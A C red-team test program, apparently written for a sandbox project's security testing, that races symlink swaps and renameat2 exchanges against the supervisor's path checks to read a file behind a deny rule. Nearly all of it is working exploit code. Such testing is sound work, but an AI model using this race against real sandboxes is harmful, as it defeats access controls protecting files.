/* Red team 21: poisoning the deny groups' ancestor memo (crates/nono-policy/src/ancestor_memo.rs)
 * from inside the sandbox, under `--approve W`, where W holds a bind mount of a deny entry E
 * at W/M/x (made outside the sandbox) and E has a subdirectory `sub`.
 *
 *   memo poison W M ATTEMPTS MARK
 *
 * Each attempt makes W/bN/x/sub/key (a decoy), opens W/bN/x/sub/key in a loop on a second
 * thread and, meanwhile, replaces the directory W/bN/x/sub by a symlink to W/M/x/sub (E/sub).
 * An open whose path the supervisor canonicalised before the swap and whose ancestors it
 * `stat`s after it sees E/sub at W/bN/x/sub with nothing denied above (W/bN/x is the
 * attacker's own directory). Then W/bN is moved aside and W/M takes its name, so that
 * W/bN/x/sub *is* E/sub, reached through E, and W/bN/x/sub/key is read: content holding MARK
 * is a leak. W/M is moved back after each attempt.
 * Prints `attempts=N leaks=N` and `first=N` (the attempt that leaked, -1 if none).
 *
 *   memo plain W M MARK
 *
 * The same renames without the race (control of the layout): W/b/x/sub is a plain directory
 * when it is first opened. Prints `leak=0|1`.
 *
 *   memo exchange W M C ATTEMPTS MARK
 *
 * No symlink: W/M/x/sub/key (E/sub/key, through the mount) is opened in a loop while W/M is
 * exchanged once with W/C (a plain directory with an empty x): an open canonicalised and
 * `stat`ed at W/M/x/sub before the exchange and whose walk `stat`s W/M/x after it saw E/sub
 * with nothing denied above. The exchange is undone and W/M/x/sub/key read. Prints
 * `attempts=N leaks=N` and `first=N`. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char path_key[4096];
static atomic_int stop;

static void *opener(void *arg) {
    (void)arg;
    char buf[256];
    while (!atomic_load(&stop)) {
        int fd = open(path_key, O_RDONLY);
        if (fd >= 0) {
            (void)!read(fd, buf, sizeof buf);
            close(fd);
        }
    }
    return NULL;
}

/* Read `path`; 1 if it holds `mark`. */
static int leaks(const char *path, const char *mark) {
    char buf[4096];
    int fd = open(path, O_RDONLY);
    if (fd < 0)
        return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0)
        return 0;
    buf[n] = 0;
    return strstr(buf, mark) != NULL;
}

static void must(int ok, const char *what) {
    if (!ok) {
        printf("setup=%s:%s\n", what, strerror(errno));
        exit(2);
    }
}

/* Make W/NAME/x/sub/key (a decoy). */
static void make(const char *w, const char *name) {
    char p[4096];
    snprintf(p, sizeof p, "%s/%s", w, name);
    must(mkdir(p, 0755) == 0, "mkdir b");
    snprintf(p, sizeof p, "%s/%s/x", w, name);
    must(mkdir(p, 0755) == 0, "mkdir x");
    snprintf(p, sizeof p, "%s/%s/x/sub", w, name);
    must(mkdir(p, 0755) == 0, "mkdir sub");
    snprintf(p, sizeof p, "%s/%s/x/sub/key", w, name);
    int fd = open(p, O_WRONLY | O_CREAT | O_EXCL, 0644);
    must(fd >= 0, "create key");
    (void)!write(fd, "decoy\n", 6);
    close(fd);
}

/* Move W/NAME aside and W/M into its place; read W/NAME/x/sub/key; move both back. */
static int swap_and_read(const char *w, const char *m, const char *name, const char *mark) {
    char b[4096], aside[4096], mp[4096], key[4096];
    snprintf(b, sizeof b, "%s/%s", w, name);
    snprintf(aside, sizeof aside, "%s/%s.aside", w, name);
    snprintf(mp, sizeof mp, "%s/%s", w, m);
    snprintf(key, sizeof key, "%s/%s/x/sub/key", w, name);
    must(rename(b, aside) == 0, "rename aside");
    must(rename(mp, b) == 0, "rename mount parent in");
    int leak = leaks(key, mark);
    must(rename(b, mp) == 0, "rename mount parent back");
    return leak;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc == 5 && strcmp(argv[1], "plain") == 0) {
        const char *w = argv[2], *m = argv[3], *mark = argv[4];
        make(w, "b");
        snprintf(path_key, sizeof path_key, "%s/b/x/sub/key", w);
        must(leaks(path_key, "decoy"), "read decoy");
        printf("leak=%d\n", swap_and_read(w, m, "b", mark));
        return 0;
    }
    if (argc == 7 && strcmp(argv[1], "exchange") == 0) {
        const char *w = argv[2], *m = argv[3], *c = argv[4], *mark = argv[6];
        int attempts = atoi(argv[5]), leaked = 0, first = -1, i;
        char mp[4096], cp[4096];
        snprintf(mp, sizeof mp, "%s/%s", w, m);
        snprintf(cp, sizeof cp, "%s/%s", w, c);
        snprintf(path_key, sizeof path_key, "%s/%s/x/sub/key", w, m);
        for (i = 0; i < attempts; i++) {
            atomic_store(&stop, 0);
            pthread_t t;
            pthread_create(&t, NULL, opener, NULL);
            usleep(100 + (i % 11) * 17);
            must(renameat2(AT_FDCWD, mp, AT_FDCWD, cp, RENAME_EXCHANGE) == 0, "exchange");
            usleep(200);
            atomic_store(&stop, 1);
            pthread_join(t, NULL);
            must(renameat2(AT_FDCWD, mp, AT_FDCWD, cp, RENAME_EXCHANGE) == 0, "exchange back");
            if (leaks(path_key, mark)) {
                leaked++;
                first = i;
                break;
            }
        }
        printf("attempts=%d leaks=%d\nfirst=%d\n", i < attempts ? i + 1 : attempts, leaked, first);
        return 0;
    }
    if (argc != 6 || strcmp(argv[1], "poison") != 0) {
        fprintf(stderr, "usage: memo poison W M ATTEMPTS MARK | memo exchange W M C ATTEMPTS MARK | memo plain W M MARK\n");
        return 2;
    }
    const char *w = argv[2], *m = argv[3], *mark = argv[5];
    int attempts = atoi(argv[4]), leaked = 0, first = -1, i;
    for (i = 0; i < attempts; i++) {
        char name[64], x[4096], y[4096], sub[4096], target[4096];
        snprintf(name, sizeof name, "b%d", i);
        make(w, name);
        snprintf(path_key, sizeof path_key, "%s/%s/x/sub/key", w, name);
        snprintf(x, sizeof x, "%s/%s/x", w, name);
        snprintf(y, sizeof y, "%s/%s/y", w, name);
        must(mkdir(y, 0755) == 0, "mkdir y");
        snprintf(sub, sizeof sub, "%s/%s/y/sub", w, name);
        snprintf(target, sizeof target, "%s/%s/x/sub", w, m);
        must(symlink(target, sub) == 0, "symlink sub");
        atomic_store(&stop, 0);
        pthread_t t;
        pthread_create(&t, NULL, opener, NULL);
        usleep(100 + (i % 11) * 17);
        must(renameat2(AT_FDCWD, x, AT_FDCWD, y, RENAME_EXCHANGE) == 0, "exchange");
        usleep(200);
        atomic_store(&stop, 1);
        pthread_join(t, NULL);
        if (swap_and_read(w, m, name, mark)) {
            leaked++;
            if (first < 0)
                first = i;
            break;
        }
    }
    printf("attempts=%d leaks=%d\nfirst=%d\n", i < attempts ? i + 1 : attempts, leaked, first);
    return 0;
}
